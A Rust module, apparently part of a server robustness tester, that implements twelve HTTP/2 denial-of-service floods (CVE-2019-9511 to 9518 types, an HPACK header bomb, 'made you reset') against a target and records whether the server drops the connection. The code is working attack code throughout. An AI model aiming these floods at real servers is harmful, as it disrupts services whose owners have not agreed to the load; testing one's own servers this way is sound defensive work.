use std::io;

use bytes::{BufMut, Bytes, BytesMut};

use super::Target;
use crate::http2::frame::{END_HEADERS, END_STREAM, Frame, Kind, LARGEST_PAYLOAD};
use crate::http2::{Connection, Head, Manners};
use crate::message::{SET, announced};

/// Floods of frames that are cheap to send. CVE-2019-9511 to 9518 and VU#421644 describe most of them.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flood {
    /// SETTINGS, each of which the server must acknowledge.
    Settings,
    /// PING, each of which the server must answer; the answers are not read.
    Ping,
    /// Empty DATA on one stream.
    EmptyData,
    /// A body in frames of one byte.
    OneByteData,
    /// Headers that never end, in CONTINUATION frames.
    Continuation,
    /// Empty CONTINUATION frames.
    EmptyContinuation,
    /// PRIORITY of streams that do not exist.
    Priority,
    /// Frames of an unknown type.
    Unknown,
    /// WINDOW_UPDATE by one byte.
    WindowUpdate,
    /// One large field in the header table, referenced thousands of times in one request (an "HPACK bomb").
    HeaderBomb,
    /// RST_STREAM of streams that were never opened.
    ResetIdle,
    /// Requests that violate the protocol, so that the server has to reset them ("made you reset").
    MadeYouReset,
}

/// The result of a flood.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Flooded {
    /// Frames that were sent.
    pub frames: usize,
    /// Whether the server closed the connection.
    pub is_closed: bool,
    /// The code of the server's GOAWAY.
    pub goaway: Option<u32>,
}

/// Frames in one write.
const TOGETHER: usize = 500;

impl Flood {
    /// All floods.
    pub const ALL: [Self; 12] = [
        Self::Settings,
        Self::Ping,
        Self::EmptyData,
        Self::OneByteData,
        Self::Continuation,
        Self::EmptyContinuation,
        Self::Priority,
        Self::Unknown,
        Self::WindowUpdate,
        Self::HeaderBomb,
        Self::ResetIdle,
        Self::MadeYouReset,
    ];

    /// Sends this many frames, or fewer if the server closes the connection.
    pub async fn send(self, target: Target<'_>, frames: usize) -> io::Result<Flooded> {
        let manners = if self == Self::Ping { Manners::DEAF } else { Manners::GOOD };
        let mut connection = target.connect(manners).await?;
        let head = Head::grpc(SET).with_token(target.token).with_timeout("1M");
        let sent = match self {
            Self::OneByteData => one_byte_data(&mut connection, &head, frames).await,
            _ => self.send_over(&mut connection, &head, frames).await,
        };
        let seen = connection.seen();
        Ok(Flooded { frames: sent, is_closed: seen.is_closed, goaway: seen.goaway })
    }

    async fn send_over(self, connection: &mut Connection, head: &Head, frames: usize) -> usize {
        if let Some(opening) = self.opening(connection, head) {
            // The first frame fails with the same error.
            let _ended = connection.write(opening.freeze()).await;
        }
        let mut sent = 0;
        while sent < frames && !connection.seen().is_closed {
            let together = TOGETHER.min(frames - sent);
            let mut out = BytesMut::new();
            for _ in 0..together {
                self.append_one(connection, head, &mut out);
            }
            if connection.write(out.freeze()).await.is_err() {
                break;
            }
            sent += together;
        }
        sent
    }

    /// Bytes to send before the frames.
    fn opening(self, connection: &mut Connection, head: &Head) -> Option<BytesMut> {
        match self {
            Self::EmptyData | Self::WindowUpdate => {
                let stream = connection.reserve();
                Some(Connection::opening(stream, head, false))
            }
            Self::Continuation | Self::EmptyContinuation => {
                let stream = connection.reserve();
                let mut out = BytesMut::new();
                Frame::new(Kind::Headers, 0, stream, head.block()).append_to(&mut out);
                Some(out)
            }
            Self::Settings
            | Self::Ping
            | Self::OneByteData
            | Self::Priority
            | Self::Unknown
            | Self::HeaderBomb
            | Self::ResetIdle
            | Self::MadeYouReset => None,
        }
    }

    fn append_one(self, connection: &mut Connection, head: &Head, out: &mut BytesMut) {
        match self {
            Self::Settings => Frame::settings(&[]).append_to(out),
            Self::Ping => Frame::ping().append_to(out),
            Self::EmptyData | Self::OneByteData => Frame::data(1, Bytes::new(), false).append_to(out),
            Self::Continuation => {
                let field = Head::grpc("/").with("x", &"y".repeat(1_000)).block();
                Frame::new(Kind::Continuation, 0, 1, field.slice(field.len() - 1_006..)).append_to(out);
            }
            Self::EmptyContinuation => Frame::new(Kind::Continuation, 0, 1, Bytes::new()).append_to(out),
            Self::Priority => {
                let stream = connection.reserve();
                Frame::new(Kind::Priority, 0, stream, vec![0, 0, 0, 0, 16]).append_to(out);
            }
            Self::Unknown => Frame::new(Kind::Other(0xfa), 0, 0, vec![0; 64]).append_to(out),
            Self::WindowUpdate => Frame::window_update(1, 1).append_to(out),
            Self::HeaderBomb => {
                let stream = connection.reserve();
                Frame::new(Kind::Headers, END_HEADERS | END_STREAM, stream, bomb(head)).append_to(out);
            }
            Self::ResetIdle => Frame::reset(connection.reserve(), 0).append_to(out),
            Self::MadeYouReset => {
                let stream = connection.reserve();
                out.unsplit(Connection::opening(stream, head, false));
                // A window update of zero is a stream error (RFC 9113, section 6.9).
                Frame::window_update(stream, 0).append_to(out);
            }
        }
    }
}

/// A field of 4,000 bytes that enters the table, and as many one-byte references to it as fit in a frame.
fn bomb(head: &Head) -> Bytes {
    const FIRST_OF_THE_TABLE: u8 = 0x80 | 0x3e;
    let mut block = BytesMut::from(&head.block()[..]);
    let field = Head::grpc("/").with("x", &"y".repeat(3_900)).block();
    let start = field.len() - 3_906;
    let mut field = BytesMut::from(field.get(start..).unwrap_or_default());
    if let Some(first) = field.first_mut() {
        // With incremental indexing (RFC 7541, section 6.2.1).
        *first = 0x40;
    }
    block.unsplit(field);
    block.put_bytes(FIRST_OF_THE_TABLE, LARGEST_PAYLOAD - block.len());
    block.freeze()
}

/// A body of this many bytes, each in its own frame.
async fn one_byte_data(connection: &mut Connection, head: &Head, frames: usize) -> usize {
    let Ok(stream) = connection.begin(head).await else { return 0 };
    let mut sent = 0;
    let announced = announced(frames);
    while sent < frames {
        let Some(room) = connection.room(stream).await else { break };
        let mut out = BytesMut::new();
        let together = room.min(TOGETHER).min(frames - sent);
        for nth in sent..sent + together {
            let byte = announced.get(nth).copied().unwrap_or(0);
            Frame::data(stream, vec![byte], false).append_to(&mut out);
        }
        connection.spend(stream, together);
        if connection.write(out.freeze()).await.is_err() {
            break;
        }
        sent += together;
    }
    sent
}
